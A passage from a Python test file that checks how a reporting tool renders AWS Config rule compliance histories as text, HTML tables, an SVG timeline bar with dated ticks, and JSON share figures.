        definitions={ORG_RULE: {"CreatedBy": "config.amazonaws.com"}},
    )
    report = collect(records, functions=[FUNCTION])

    def runs(creator: str, parameters: str) -> str:
        made = f"this rule; CUSTOM_LAMBDA {FUNCTION}, created by {creator}, parameters "
        return made + parameters

    own = runs("an account principal", '{"ThresholdDays": "7"}')
    # Shown with its keys sorted, whatever order the rule was given them in.
    sorted_keys = '{"CloudTrailEvidence": "false", "ThresholdDays": "7"}'
    made_by_aws = runs("config.amazonaws.com", sorted_keys)
    text = render_text(report)
    assert f"  rule: {own}\n  state at start: NON_COMPLIANT\n" in text
    assert f"  rule: {made_by_aws}\n  state at start: no record\n" in text
    page = render_html(report)
    shown = re.findall(r'<p class="rule">Rule: (.*?)</p>', page)
    assert sorted(shown) == sorted(html.escape(line) for line in (own, made_by_aws))
    tables = re.findall(r'<table class="changes">(.*?)</table>', page, re.S)
    header = "<tr><th>Time (UTC)</th><th>Verdict</th><th>Rule</th></tr>"
    started = f"<tr><td>2026-11-01T00:00:00Z (start)</td><td>NON_COMPLIANT</td><td>{RULE}</td></tr>"
    changed = f"<tr><td>2026-11-02T08:00:00Z</td><td>COMPLIANT</td><td>{RULE}</td></tr>"
    none = '<tr><td colspan="3">No change of compliance in the period.</td></tr>'
    assert sorted(tables) == sorted([f"{header}\n{none}\n", f"{header}\n{started}\n{changed}\n"])


def test_the_timeline_bar_spans_the_period_to_scale_under_five_dated_ticks():
    records = ConfigRecords(
        {RULE: parameters()},
        [(day(1, 8), {RULE: "COMPLIANT"}), (day(5, 0), {RULE: "NON_COMPLIANT"})],
        {RULE: ("NON_COMPLIANT", RECENT, day(9, 20))},
    )
    report = collect(records)
    page = render_html(report)
    assert 'viewBox="0 0 920 70"' in page  # the 900-unit bar and 10 either side
    rects = re.findall(r'data-state="(\w+)" x="([\d.]+)" y="5" width="([\d.]+)"', page)
    # 32 hours unknown, then compliant to day 5, then non-compliant: to scale on 900 units.
    assert rects == [
        ("UNKNOWN", "10.0", "120.0"),
        ("COMPLIANT", "130.0", "330.0"),
        ("NON_COMPLIANT", "460.0", "450.0"),
    ]
    ticks = re.findall(r'<text x="([\d.]+)" y="62" text-anchor="\w+">([\d-]+)</text>', page)
    # The two ends and three between (a quarter is two and a half days).
    assert ticks == [
        ("10.0", "2026-11-01"),
        ("235.0", "2026-11-03"),
        ("460.0", "2026-11-06"),
        ("685.0", "2026-11-08"),
        ("910.0", "2026-11-11"),
    ]
    [account] = json.loads(render_json(report))["accounts"]
    # Shares to four places: 32 of 240 hours.
    assert (account["unknown_share"], account["non_compliant_share"]) == (0.1333, 0.5)
